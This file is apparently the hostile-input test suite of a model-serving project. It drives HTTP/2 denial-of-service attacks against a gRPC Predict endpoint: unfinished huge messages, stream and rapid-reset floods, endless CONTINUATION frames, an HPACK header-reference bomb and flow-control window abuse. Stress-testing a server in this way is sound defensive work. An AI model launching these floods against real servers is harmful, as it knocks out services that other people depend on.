"""gRPC connections and streams that begin and do not end. The server's windows are open, so all may be sent at once."""

from __future__ import annotations

import itertools
from collections.abc import Callable

from tests.hostile.attacks import Steps, Target, attack
from tests.hostile.attacks.connections import HELLO
from tests.hostile.attacks.crowd import Crowd
from tests.support import http2_peer as http2

PREDICT = "/tensorflow.serving.PredictionService/Predict"
FRAME_BYTES = 16_384


def data_frames(number: int, data: bytes, *, ends: bool) -> bytes:
    """The DATA frames of a stream."""
    pieces = list(http2.pieces(data, FRAME_BYTES))
    flags = [0] * (len(pieces) - 1) + [http2.END_STREAM if ends else 0]
    return b"".join(http2.frame(http2.DATA, flag, number, piece) for flag, piece in zip(flags, pieces, strict=True))


def hold(target: Target, count: int, first: bytes, more: Callable[[], bytes] = bytes, seconds: float = 0.05) -> Steps:
    """Keeps connections open, which send these bytes first and those at each step; what comes is read."""
    crowd = Crowd(target.grpc)
    try:
        while True:
            crowd.fill(count, lambda: HELLO + first, at_once=8)
            data = more()
            for connection in crowd if data else ():
                if crowd.is_idle(connection):
                    crowd.send(connection, data)
            crowd.pump()
            yield seconds
    finally:
        crowd.close()


@attack
def unfinished_messages(target: Target) -> Steps:
    """15 messages of 240 MB on one connection, of which all but the last byte is sent."""
    crowd = Crowd(target.grpc)
    part = bytes(FRAME_BYTES)
    try:
        while True:
            connection = crowd.open(HELLO)
            for number in range(1, 31, 2):
                if connection is None:
                    break
                prefix = http2.frame(http2.DATA, 0, number, (b"\0" + (240 * 10**6).to_bytes(4, "big")))
                crowd.send(connection, http2.begin(number, PREDICT) + prefix)
                frames = http2.frame(http2.DATA, 0, number, part) * 64
                for _ in range(229):
                    crowd.send(connection, frames)
                    while connection in crowd and not crowd.is_idle(connection):
                        crowd.pump()
                        yield 0.001
            for _ in range(50):
                crowd.pump()
                yield 0.02
            crowd.close()
    finally:
        crowd.close()


@attack
def small_messages_that_stop(target: Target) -> Steps:
    """64 connections, each with a message of 30 MB that lacks a byte: 2 GB, if they were kept."""
    message = http2.message(bytes(30 * 10**6))[:-1]
    return hold(target, 64, http2.begin(1, PREDICT) + data_frames(1, message, ends=False))


@attack
def many_streams(target: Target) -> Steps:
    """4 connections with 60,000 streams each, which have begun a message."""
    number = itertools.count(1, 2)

    def streams() -> bytes:
        numbers = [next(number) for _ in range(500)]
        return b"".join(http2.begin(n, PREDICT) + http2.frame(http2.DATA, 0, n, b"\0\0\0\1\0x") for n in numbers)

    return hold(target, 4, b"", streams)


@attack
def resets(target: Target) -> Steps:
    """Calls that are taken back as soon as they are made: 10,000 a second."""
    number = itertools.count(1, 2)

    def calls() -> bytes:
        numbers = [next(number) for _ in range(250)]
        return b"".join(http2.call(n, b"", PREDICT) + http2.reset(n) for n in numbers)

    return hold(target, 2, b"", calls)


@attack
def control_frames(target: Target) -> Steps:
    """PING, SETTINGS, WINDOW_UPDATE and PRIORITY without an end, from 4 connections."""
    ping = http2.frame(http2.PING, 0, 0, bytes(8))
    mixed = ping + http2.settings((4, 2**16)) + http2.window_update(0, 1)
    mixed += http2.frame(http2.PRIORITY, 0, 9, bytes(5))
    return hold(target, 4, b"", lambda: mixed * 200)


@attack
def continuations(target: Target) -> Steps:
    """Header blocks that go on for ever, and large ones that end."""
    first = http2.frame(http2.HEADERS, 0, 1, http2.block(http2.request(PREDICT)))
    field = http2.block([("x-attack", "x" * 4000)]) * 4
    return hold(target, 16, first, lambda: http2.frame(http2.CONTINUATION, 0, 1, field[:FRAME_BYTES]), seconds=0.02)


@attack
def tables_of_headers(target: Target) -> Steps:
    """Header blocks of a few KB that name an entry of HPACK's table thousands of times."""
    block = http2.block(http2.request(PREDICT))
    entry = b"\x40\x01a" + b"\x7f\xa1\x1e" + b"x" * 4000
    bomb = block + entry + b"\xbe" * 12_000
    number = itertools.count(1, 2)
    return hold(target, 8, b"", lambda: http2.frame(http2.HEADERS, 5, next(number), bomb))


@attack
def unread_grpc_answers(target: Target) -> Steps:
    """16 connections with 4 calls each for answers of 10 MB, whose windows are open and who read nothing."""
    from tests.support.asking import predict_request

    request = predict_request("big_answers", {"x": [1.0]}, dtypes={"x": 1}).SerializeToString()
    crowd = Crowd(target.grpc, reads=False)
    hello = http2.PREFACE + http2.settings((4, 2**31 - 1)) + http2.window_update(0, 2**31 - 1 - 65535)
    calls = b"".join(http2.call(number, request, PREDICT) for number in (1, 3, 5, 7))
    try:
        while True:
            crowd.fill(16, lambda: hello + calls, at_once=2)
            crowd.pump()
            yield 0.05
    finally:
        crowd.close()


@attack
def closed_windows(target: Target) -> Steps:
    """16 connections with 4 calls each for answers of 10 MB, who open no window for them."""
    from tests.support.asking import predict_request

    request = predict_request("big_answers", {"x": [1.0]}, dtypes={"x": 1}).SerializeToString()
    calls = b"".join(http2.call(number, request, PREDICT) for number in (1, 3, 5, 7))
    return hold(target, 16, http2.settings((4, 0)) + calls)
